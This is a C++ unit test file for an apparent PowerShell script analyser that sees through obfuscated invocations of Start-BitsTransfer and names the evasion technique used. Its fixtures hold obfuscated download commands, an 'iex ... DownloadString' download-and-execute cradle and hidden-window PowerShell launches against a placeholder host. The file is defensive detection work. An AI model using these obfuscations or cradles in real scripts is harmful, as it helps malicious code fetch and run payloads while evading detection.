#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "tests/powershell/script_reading.h"

namespace powershell {
namespace {

constexpr std::string_view kPlain = "Start-BitsTransfer http://h/a C:\\b";

TEST(EvaluatorCommands, NamesAreSeenThrough) {
  for (const auto& [name, techniques] : std::vector<std::pair<std::string, std::string>>{
           {"&('Start'+'-Bits'+'Transfer')", "concatenation call-operator"},
           {".('Start-BitsTransfer')", "call-operator"},
           {"& (\"{1}{0}\"-f'BitsTransfer','Start-')", "format call-operator"},
           {"S`tart-B`itsT`ransfer", "backtick"},
           {"Star`t-BitsTransfer", "backtick"},
           {"&\"Star`t-BitsTransfer\"", "backtick"},  // a tab in truth: whoever wrote it meant a t
           {"St'art'-Bits\"\"Transfer", "quoted-name"},
           {"sTaRt-bItStRaNsFeR", "case-mix"},
           {"&(gcm St*B*er)", "call-operator wildcard-name"},
           {"&(Get-Command -Verb Start -Noun Bits*)", "call-operator wildcard-name"},
           {"sal dl Start-BitsTransfer;dl", "alias"},
           {"New-Alias -Name dl -Value Start-BitsTransfer;dl", "alias"},
           {"&{Start-BitsTransfer @args}", ""},
           {"Start-BitsTransfer", ""},
           {"start-bitstransfer", ""},
           {"& 'Start-BitsTransfer'", ""},
       }) {
    const ScriptReading found = read(name + " http://h/a C:\\b");
    ASSERT_FALSE(found.reading.invocations.empty()) << name;
    EXPECT_EQ(found.reading.invocations.back().text, kPlain) << name;
    EXPECT_EQ(found.techniques(), techniques) << name;
  }
}

TEST(EvaluatorCommands, ANameFromAWildcardIsAGuess) {
  EXPECT_TRUE(read("&(gcm St*B*er) a b").reading.invocations.at(0).guessed);
  EXPECT_FALSE(read("Start-BitsTransfer a b").reading.invocations.at(0).guessed);
  // Several fit: it can't be known.
  EXPECT_TRUE(read("&(gcm *-Bits*) a b").has(Technique::opaque));
}

TEST(EvaluatorCommands, ModulesAreTakenOffNames) {
  for (const std::string_view script :
       {"BitsTransfer\\Start-BitsTransfer a b", "& 'BitsTransfer\\Start-BitsTransfer' a b"}) {
    const Invocation invocation = read(script).reading.invocations.at(0);
    EXPECT_EQ(invocation.name, "Start-BitsTransfer");
    EXPECT_EQ(invocation.module, "BitsTransfer");
  }
}

TEST(EvaluatorCommands, ABareNounGets) {
  EXPECT_EQ(read("BitsTransfer").reading.invocations.at(0).name, "Get-BitsTransfer");
}

TEST(EvaluatorCommands, ScriptsInTextsAreRead) {
  const std::string text = "'" + std::string(kPlain) + "'";
  for (const std::string& script :
       {"iex " + text, "Invoke-Expression -Command " + text, text + "|iex", text + "|&'iex'",
        "iex(" + text + ")", "[scriptblock]::Create(" + text + ").Invoke()",
        "&([scriptblock]::Create(" + text + "))", "icm ([scriptblock]::Create(" + text + "))",
        "$ExecutionContext.InvokeCommand.InvokeScript(" + text + ")",
        "&$ExecutionContext.InvokeCommand.NewScriptBlock(" + text + ")",
        "[PowerShell]::Create().AddScript(" + text + ").Invoke()",
        "$p=[PowerShell]::Create();$null=$p.AddScript(" + text + ");$p.Invoke()",
        "sal q iex;q " + text, "function q($a){iex $a};q " + text}) {
    const ScriptReading found = read(script);
    ASSERT_FALSE(found.reading.invocations.empty()) << script;
    EXPECT_EQ(found.reading.invocations.back().text, kPlain) << script;
    EXPECT_EQ(found.reading.invocations.back().depth, 1U) << script;
    EXPECT_TRUE(found.has(Technique::invoke_expression)) << script;
    ASSERT_EQ(found.reading.layers.size(), 1U) << script;
    EXPECT_EQ(found.reading.layers[0].text, kPlain) << script;
  }
}

TEST(EvaluatorCommands, ShellObjectsRunCommands) {
  const ScriptReading found = read(
      "[PowerShell]::Create().AddCommand('Start-BitsTransfer').AddParameter('Source','http://h/a')."
      "AddParameter('Destination','C:\\b').Invoke()");
  EXPECT_EQ(found.commands(), "Start-BitsTransfer -Source http://h/a -Destination C:\\b");
}

TEST(EvaluatorCommands, TextThatIsNotThereIsOpaque) {
  for (const std::string_view script :
       {"iex $x", "$x|iex", "iex (Get-Content a.txt)", "iex $env:nosuch",
        "iex (New-Object Net.WebClient).DownloadString('http://h/a')", "& $x a", "iex \"$x a\""}) {
    const ScriptReading found = read(script);
    EXPECT_TRUE(found.has(Technique::opaque)) << script;
    EXPECT_FALSE(found.reading.complete) << script;
    EXPECT_EQ(found.reading.opaque.size(), 1U) << script;
  }
  // Of this one all that matters is there.
  const ScriptReading found = read("iex \"Start-BitsTransfer $url C:\\b\"");
  EXPECT_EQ(found.commands(), "Start-BitsTransfer $url C:\\b");
  EXPECT_TRUE(found.reading.complete);
}

TEST(EvaluatorCommands, ArgumentsAreHandedOverAsTheParserDoes) {
  const Invocation invocation =
      read("Start-BitsTransfer -Source:'http://h/a',\"http://h/b\" -As $dir\\x \"$env:TEMP\\y\" 5")
          .reading.invocations.at(0);
  ASSERT_EQ(invocation.arguments.size(), 5U);
  EXPECT_EQ(invocation.arguments[0].parameter, "Source");
  EXPECT_TRUE(invocation.arguments[0].bound);
  EXPECT_TRUE(invocation.arguments[0].value->is_list);
  EXPECT_EQ(invocation.arguments[0].value->items,
            (std::vector<std::string>{"http://h/a", "http://h/b"}));
  EXPECT_EQ(invocation.arguments[1].parameter, "As");
  EXPECT_FALSE(invocation.arguments[1].value);
  EXPECT_EQ(invocation.arguments[2].value->items, std::vector<std::string>{"$dir\\x"});
  EXPECT_FALSE(invocation.arguments[2].value->known);
  EXPECT_EQ(invocation.arguments[3].value->items, std::vector<std::string>{"%TEMP%\\y"});
  EXPECT_TRUE(invocation.arguments[3].value->known);
  EXPECT_EQ(invocation.arguments[4].value->items, std::vector<std::string>{"5"});
}

TEST(EvaluatorCommands, SplattedTablesAreBoundParameters) {
  const Invocation invocation =
      read(
          "$h=@{Source='http://h/a';Destination='C:\\b'};$h.TransferType='Upload';"
          "Start-BitsTransfer @h -Asynchronous")
          .reading.invocations.at(0);
  EXPECT_EQ(invocation.text,
            "Start-BitsTransfer -Source http://h/a -Destination C:\\b -TransferType Upload "
            "-Asynchronous");
  EXPECT_TRUE(invocation.arguments.at(2).bound);
}

TEST(EvaluatorCommands, ConstantObjectsArePipedIn) {
  for (const std::string_view script :
       {"[pscustomobject]@{Source='http://h/a';Destination='C:\\b'}|Start-BitsTransfer",
        "New-Object psobject -Property @{Source='http://h/a';Destination='C:\\b'}|"
        "Start-BitsTransfer",
        "\"Source,Destination`nhttp://h/a,C:\\b\"|ConvertFrom-Csv|Start-BitsTransfer"}) {
    const ScriptReading found = read(script);
    ASSERT_EQ(found.reading.invocations.size(), 1U) << script;
    const Invocation& invocation = found.reading.invocations[0];
    ASSERT_EQ(invocation.input.size(), 1U) << script;
    ASSERT_EQ(invocation.input[0].entries.size(), 2U) << script;
    EXPECT_EQ(invocation.input[0].entries[0].first, "Source") << script;
    EXPECT_EQ(invocation.input[0].entries[0].second.items.at(0), "http://h/a") << script;
    EXPECT_FALSE(invocation.input_unknown) << script;
  }
  EXPECT_TRUE(read("Import-Csv f|Start-BitsTransfer").reading.invocations.at(1).input_unknown);
}

TEST(EvaluatorCommands, ProgramsAreReadAsPrograms) {
  const ScriptReading plain = read("bitsadmin /transfer j http://h/a C:\\b");
  ASSERT_EQ(plain.reading.invocations.size(), 1U);
  EXPECT_EQ(plain.reading.invocations[0].kind, Invocation::Kind::program);
  EXPECT_EQ(plain.reading.invocations[0].argv,
            (std::vector<std::string>{"bitsadmin", "/transfer", "j", "http://h/a", "C:\\b"}));
  for (const std::string_view script :
       {"powershell -c 'Start-BitsTransfer http://h/a C:\\b'",
        "cmd /c 'powershell -c Start-BitsTransfer http://h/a C:\\b'",
        "Start-Process powershell -ArgumentList '-c','Start-BitsTransfer http://h/a C:\\b'",
        "saps powershell.exe '-c Start-BitsTransfer http://h/a C:\\b' -WindowStyle Hidden",
        "'Start-BitsTransfer http://h/a C:\\b'|powershell -",
        "& $env:ComSpec /c powershell -c Start-BitsTransfer http://h/a C:\\b"}) {
    const ScriptReading found = read(script);
    ASSERT_FALSE(found.reading.invocations.empty()) << script;
    EXPECT_EQ(found.reading.invocations.back().text, kPlain) << script;
  }
}

TEST(EvaluatorCommands, AMentionIsNoInvocation) {
  for (const std::string_view script :
       {"Get-Help Start-BitsTransfer", "# Start-BitsTransfer a b", "<# Start-BitsTransfer #>",
        "Write-Host 'Start-BitsTransfer a b'", "echo \"Start-BitsTransfer a b\"",
        "'Start-BitsTransfer a b'", "Get-Command Start-BitsTransfer",
        "$x = 'Start-BitsTransfer a b'", "function f{Start-BitsTransfer a b}",
        "Select-String Start-BitsTransfer *.ps1"}) {
    for (const Invocation& invocation : read(script).reading.invocations) {
      EXPECT_NE(invocation.name, "Start-BitsTransfer") << script;
    }
  }
}

TEST(EvaluatorCommands, ScriptBlocksOfOtherCommandsAreRead) {
  for (const std::string_view script :
       {"icm {Start-BitsTransfer http://h/a C:\\b}",
        "Start-Job {Start-BitsTransfer http://h/a C:\\b}",
        "icm -ComputerName s {param($u) Start-BitsTransfer $u C:\\b} -ArgumentList http://h/a",
        "Measure-Command {Start-BitsTransfer http://h/a C:\\b}",
        "Register-ObjectEvent $t Elapsed -Action {Start-BitsTransfer http://h/a C:\\b}"}) {
    EXPECT_EQ(read(script).reading.invocations.back().text, kPlain) << script;
  }
}

TEST(EvaluatorCommands, FunctionsAreReadWhereTheyAreCalled) {
  const ScriptReading found = read(
      "function f($a,$b='C:\\b'){Start-BitsTransfer -Source $a -Destination $b}; f -b C:\\c "
      "http://h/a; f http://h/b");
  EXPECT_EQ(found.commands(),
            "Start-BitsTransfer -Source http://h/a -Destination C:\\c\n"
            "Start-BitsTransfer -Source http://h/b -Destination C:\\b");
  EXPECT_TRUE(found.has(Technique::alias));
  EXPECT_EQ(read("function f{f};f").reading.invocations.size(), 0U);  // and that ends
}

TEST(EvaluatorCommands, EveryCommandIsThereInOrder) {
  EXPECT_EQ(read("ipmo BitsTransfer; $j = Start-BitsTransfer a b -Asynchronous; "
                 "Get-BitsTransfer | Complete-BitsTransfer; Remove-Item x 2>&1 | Out-Null")
                .commands(),
            "Import-Module BitsTransfer\nStart-BitsTransfer a b -Asynchronous\nGet-BitsTransfer\n"
            "Complete-BitsTransfer\nRemove-Item x\nOut-Null");
}

TEST(EvaluatorCommands, ADashOfAnotherAlphabetIsADash) {
  const ScriptReading found =
      read("Start-BitsTransfer \u2013Source http://h/a \u2014Destination C:\\b");
  EXPECT_EQ(found.commands(), "Start-BitsTransfer -Source http://h/a -Destination C:\\b");
  EXPECT_EQ(found.techniques(), "unicode-dash");
}

}  // namespace
}  // namespace powershell
